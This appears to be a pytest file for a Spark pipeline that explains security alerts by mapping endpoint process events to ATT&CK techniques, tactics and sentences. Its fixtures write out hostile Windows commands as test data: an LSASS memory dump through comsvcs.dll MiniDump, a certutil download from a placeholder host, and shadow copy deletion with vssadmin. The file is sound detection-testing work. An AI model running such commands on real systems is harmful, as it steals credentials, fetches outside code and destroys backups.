"""What alerts are told by the events of their windows, and that neither order nor batches change it."""

import random
from datetime import timedelta

import pytest
from pyspark.sql import SparkSession

from pipelines.ttp.explanation import TTP_COLUMNS, explain_alerts
from pipelines.ttp.ruleset import RuleSet, load_rules
from tests.pipelines.ttp.made_up import NOON, event, events_of

pytestmark = pytest.mark.slow

MINUTE = timedelta(minutes=1)
DUMP = "rundll32.exe comsvcs.dll, MiniDump 672\n C:\\d.tmp full"


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules()


def process(event_id: str, command_line: str, *, image: str = "rundll32.exe", **columns):
    return event(
        event_id, category="process", action="process_created", event_code="1",
        process_path=f"C:\\Windows\\System32\\{image}", command_line=command_line, **columns,
    )  # fmt: skip


EVENTS = [
    process("b", DUMP, ts=NOON + MINUTE),
    process("a", DUMP, ts=NOON + MINUTE),
    process("c", DUMP, ts=NOON),
    process("d", "certutil -urlcache -f http://files.example/a a", image="certutil.exe", ts=NOON + 2 * MINUTE),
    process("late", "vssadmin delete shadows /all", image="vssadmin.exe", ts=NOON + 3 * MINUTE),
    process("other", "vssadmin delete shadows /all", image="vssadmin.exe", endpoint="ws-2"),
    process("foreign", "vssadmin delete shadows /all", image="vssadmin.exe", tenant="globex"),
    process("plain", "notepad.exe", image="notepad.exe"),
]


def windows(spark: SparkSession):
    made = [
        ("alert-1", "acme", "ws-1", "windows", NOON), ("alert-1", "acme", "ws-1", "windows", NOON - MINUTE),
        ("alert-2", "acme", "ws-3", "windows", NOON), (None, "acme", "ws-2", "windows", NOON),
    ]  # fmt: skip
    return spark.createDataFrame(
        made, "alert_id string, tenant string, endpoint string, platform string, window_start timestamp"
    )


def told(spark: SparkSession, rules: RuleSet, events) -> dict[str, dict[str, list[str]]]:
    found = explain_alerts(windows(spark), events, rules, width=3 * MINUTE, slide=MINUTE).collect()
    return {row["alert_id"]: {name: row[name] for name in TTP_COLUMNS} for row in found}


def test_techniques_tactics_and_sentences_of_the_events_in_an_alerts_windows_alone(spark, rules) -> None:
    found = told(spark, rules, events_of(spark, EVENTS))
    assert found["alert-1"]["ttp_techniques"] == ["T1003.001", "T1105", "T1140"]
    assert found["alert-1"]["ttp_tactics"] == ["command-and-control", "credential-access", "defense-evasion"]
    dump, fetched = found["alert-1"]["ttp_explanations"]
    assert dump.startswith(
        "The memory of lsass is dumped from the command line: rundll32.exe process created "
        "`rundll32.exe comsvcs.dll, MiniDump 672 C:\\d.tmp full`, 2026-03-01 12:00:00 UTC "
        "(critical, T1003.001 LSASS Memory; rule "
    )
    assert dump.endswith(", event c and 2 more).")
    assert fetched.startswith("certutil fetches, decodes or encodes a file: certutil.exe process created")
    assert found["alert-2"] == {name: [] for name in TTP_COLUMNS}
    assert set(found) == {"alert-1", "alert-2"}


def test_neither_order_nor_repetition_nor_parts_of_events_change_what_is_told(spark, rules) -> None:
    expected = told(spark, rules, events_of(spark, EVENTS))
    for seed in range(4):
        rng = random.Random(seed)
        shuffled = rng.sample(EVENTS, len(EVENTS)) + rng.sample(EVENTS, 3)
        cut = rng.randrange(1, len(shuffled))
        parts = events_of(spark, shuffled[:cut]).unionByName(events_of(spark, shuffled[cut:])).repartition(3)
        assert told(spark, rules, parts) == expected


def test_an_alert_has_the_sentences_of_the_gravest_rules_when_too_many_matched(spark, rules, monkeypatch) -> None:
    monkeypatch.setattr("pipelines.ttp.explanation.MAX_EXPLANATIONS", 1)
    found = told(spark, rules, events_of(spark, EVENTS))
    assert [one.split(":")[0] for one in found["alert-1"]["ttp_explanations"]] == [
        "The memory of lsass is dumped from the command line"
    ]
    assert found["alert-1"]["ttp_techniques"] == ["T1003.001", "T1105", "T1140"]
